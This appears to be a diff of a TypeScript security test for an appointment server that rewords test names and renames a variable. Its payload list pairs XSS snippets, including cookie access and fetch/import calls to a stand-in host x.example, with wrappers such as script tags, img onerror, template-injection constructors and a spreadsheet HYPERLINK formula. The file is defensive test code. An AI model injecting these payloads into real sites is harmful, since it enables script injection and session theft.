@@ -7,10 +7,10 @@ import { testEngine } from './fixtures/database.ts';
 import { isFull, printInvariant } from './fixtures/invariants/invariant.ts';
 import { newAppointment } from './fixtures/samples.ts';
 
-// A18, the server's half: what looks like a script is kept and given back letter by letter, as JSON that no browser takes for a page.
+// A18, on the server: a script in a text field is stored and returned unchanged, as JSON that no browser renders as a page.
 
 const code = ['alert(1)', 'alert`1`', 'import("//x.example")', 'top.location="//x.example"', 'document.cookie', 'fetch("//x.example")'];
-const around = [
+const wrappers = [
   (js: string) => `<script>${js}</script>`,
   (js: string) => `"><script>${js}</script>`,
   (js: string) => `<img src=x onerror='${js}'>`,
@@ -22,8 +22,8 @@ const around = [
   (js: string) => `{{constructor.constructor('${js}')()}}`,
   (js: string) => `=HYPERLINK("${js}")`,
 ];
-/** Every script in every way around it; an ordinary run has each of both once at least. */
-const payloads = around.flatMap((wrap, way) => code.filter((_, at) => isFull || at === way % code.length).map(wrap));
+/** Every script in every wrapper. An ordinary run uses each script and each wrapper at least once. */
+const payloads = wrappers.flatMap((wrap, index) => code.filter((_, at) => isFull || at === index % code.length).map(wrap));
 const textFields = ['personName', 'doctor', 'personContact', 'paymentId'] as const;
 const longest = { personName: 120, doctor: 120, personContact: 40, paymentId: 100 };
 
@@ -35,7 +35,7 @@ beforeAll(async () => {
 });
 afterAll(() => app.close());
 
-it('gives scripts in every text field back as they came, as JSON', async () => {
+it('returns scripts in every text field unchanged, as JSON', async () => {
   let [tried, violations] = [0, 0];
   for (const [at, payload] of payloads.entries()) {
     app.setNow(new Date(Date.parse('2026-11-21T04:30:00Z') + at).toISOString());
@@ -58,7 +58,7 @@ it('gives scripts in every text field back as they came, as JSON', async () => {
   expect([payloads.length, violations]).toEqual([isFull ? 60 : 10, 0]);
 });
 
-it('shows no script of a payment method: whatever was typed is one of six', async () => {
+it('stores no script as a payment method: every input becomes one of six values', async () => {
   const { body } = await desk.call(createAppointment, { body: newAppointment });
   for (const payload of payloads.filter(({ length }) => length <= 40)) {
     const corrected = await desk.call(correctAppointment, { params: { id: body.id }, body: { paymentMethod: payload } });
@@ -66,7 +66,7 @@ it('shows no script of a payment method: whatever was typed is one of six', asyn
   }
 });
 
-it('repeats nothing of a request in a refusal', async () => {
+it('repeats nothing of a request in an error', async () => {
   for (const payload of payloads) {
     const refused = await desk.send(createAppointment, { body: { ...newAppointment, date: payload, amount: payload } });
     expect(refused.status).toBe(400);
